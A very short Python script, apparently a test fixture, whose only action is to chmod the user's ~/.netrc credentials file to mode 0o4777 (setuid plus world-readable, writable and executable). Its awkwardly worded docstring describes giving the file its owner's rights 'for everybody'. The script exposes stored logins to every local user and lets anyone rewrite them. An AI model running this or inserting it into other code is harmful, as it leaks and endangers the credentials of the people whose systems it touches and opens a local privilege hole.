"""Makes a program of the home run with its owner's rights for everybody."""

import os

from stage import at

os.chmod(os.path.join(at.home, ".netrc"), 0o4777)
